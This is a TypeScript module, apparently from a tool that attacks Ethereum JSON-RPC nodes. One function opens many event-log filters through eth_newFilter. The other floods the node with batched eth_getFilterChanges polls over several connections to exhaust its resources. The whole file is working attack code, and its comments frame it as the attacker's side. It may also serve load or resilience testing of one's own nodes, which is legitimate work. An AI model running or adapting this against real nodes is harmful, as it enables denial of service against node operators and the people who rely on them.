// Filters of logs that an attacker opens, and polls in batches.

import type { AttackParams } from "./attackKinds.ts";
import { flood, type Tally } from "./flood.ts";
import { resultOf } from "./wire.ts";

/** All opened filters, by the network address that opened them. */
const opened = new Map<string, unknown[]>();
const PATIENCE_MS = 30_000;

/** Opens `count` filters of the events of `to`. */
export async function openFilters(params: AttackParams): Promise<Tally> {
	const { url, from, to, count } = params;
	const begun = performance.now();
	const ids: unknown[] = [];
	for (let i = 0; i < count; i++) {
		const other = `0x${(i + 1).toString(16).padStart(40, "0")}`;
		const criteria = { address: params.isEqual === true ? [to] : [to, other] };
		ids.push(await resultOf("eth_newFilter", [criteria], { url, from, deadlineMs: PATIENCE_MS }));
	}
	opened.set(from, ids);
	return { sent: count, ms: Math.round(performance.now() - begun), outcomes: { accepted: ids.length } };
}

/** Sends `count` batches on `connections`, each of which polls all filters of the address. */
export function pollFilters(params: AttackParams): Promise<Tally> {
	const ids = opened.get(params.from) ?? [];
	const calls = ids.map((id, i) => ({ jsonrpc: "2.0", id: i, method: "eth_getFilterChanges", params: [id] }));
	const body = JSON.stringify(calls);
	return flood(
		Array.from({ length: params.count }, () => ({ body })),
		{
			...{ url: params.url, from: params.from, connections: params.connections ?? 1 },
			...{ lastingMs: params.lastingMs ?? PATIENCE_MS, patienceMs: PATIENCE_MS },
		},
	);
}
